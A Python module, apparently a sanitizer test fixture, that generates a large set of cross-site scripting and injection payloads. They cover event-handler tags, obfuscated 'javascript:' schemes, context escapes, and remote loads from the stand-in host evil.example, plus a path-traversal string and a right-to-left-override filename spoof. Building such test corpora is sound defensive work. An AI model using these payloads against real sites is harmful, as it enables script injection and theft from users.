"""Texts that run a script, or ask for something outside, wherever they become markup, a style, an address or a script.

Made from lists of tags, events, ways to spell `javascript:` and ways out of a context, so that each is tried with each.
"""

from __future__ import annotations

from itertools import product

OUTSIDE = "evil.example"
RUN = "window.ran=(window.ran||0)+1"
TAGS = (
    "img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open", "marquee",
    "iframe src=x", "object data=x", "select autofocus", "textarea autofocus", "math", "a href=x", "style",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onanimationstart", "onbegin")
SPELLED = ("<{}/{}={}>", "<{}\n{}\t=\t{}\n>", '<{} {}="{}"//', "<<{} {}={}>")
OUT_OF = ("", '">', "'>", "-->", "</script>", "</textarea>", "</title>", "]]>", "`>", "</style>", "</pre>", "*/")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "&#106;avascript:", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "//evil.example/", "http:/\\evil.example/",
)  # fmt: skip
AS_LINK = (
    "[click]({})",
    "<{}>",
    "![x]({})",
    '<a href="{}">x</a>',
    '[x]: {} "t"',
    "<form action='{}'><input type=submit>",
)
SPECIAL = (
    f"<script>{RUN}</script>", f"<script src=//{OUTSIDE}/x.js></script>", f"<img src=http://{OUTSIDE}/x.png>",
    f"<link rel=stylesheet href=http://{OUTSIDE}/x.css>", f"<style>@import 'http://{OUTSIDE}/x'</style>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<base href=http://{OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url=http://{OUTSIDE}/'>", f"<object data=http://{OUTSIDE}/x></object>",
    f"<embed src=http://{OUTSIDE}/x>", f"<svg><image href=http://{OUTSIDE}/x /></svg>",
    f"<svg><use href=http://{OUTSIDE}/x#a /></svg>", f"<video poster=http://{OUTSIDE}/x>",
    f"<svg><script>{RUN}</script></svg>", f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<div style='background:url(http://{OUTSIDE}/x)'>x</div>", f"url(http://{OUTSIDE}/x)",
    f"1;background:url(//{OUTSIDE}/x)", f"expression({RUN})",
    f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"');{RUN}//", f'");{RUN}//',
    f"`;{RUN}//", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", "__proto__", "constructor", "toString", "../../../etc/passwd", "#/x/run?a=b",
    f"<x-a onfocus={RUN} tabindex=1 id=x>", f"<img src=x oneonerrorrror={RUN}>", "\x1b]8;;http://evil.example\x07x",
    "\u202egnp.exe", "\u200b\u200bhidden", "\x00<script>", f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"```html\n<script>{RUN}</script>\n```", f"# <img src=x onerror={RUN}>", f"- <script>{RUN}</script>",
    f"> <svg onload={RUN}>",
    f"`<script>{RUN}</script>`", f"**<script>{RUN}</script>**", f"*<img src=x onerror={RUN}>*",
    f"[<img src=x onerror={RUN}>](http://{OUTSIDE})",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *SPECIAL,
            *(f"<{tag} {event}={RUN}>" for tag, event in product(TAGS, EVENTS)),
            *(way.format(tag.upper(), event, RUN) for way, tag, event in product(SPELLED, TAGS[:6], EVENTS[:3])),
            *(f"{out}<img src=x onerror={RUN}>" for out in OUT_OF),
            *(f"{out}<script>{RUN}</script>" for out in OUT_OF),
            *(f"{out} onmouseover={RUN} autofocus onfocus={RUN} x=" for out in ('"', "'", "", "`")),
            *(link.format(f"{scheme}{RUN}") for link, scheme in product(AS_LINK, SCHEMES)),
        )
    )
)
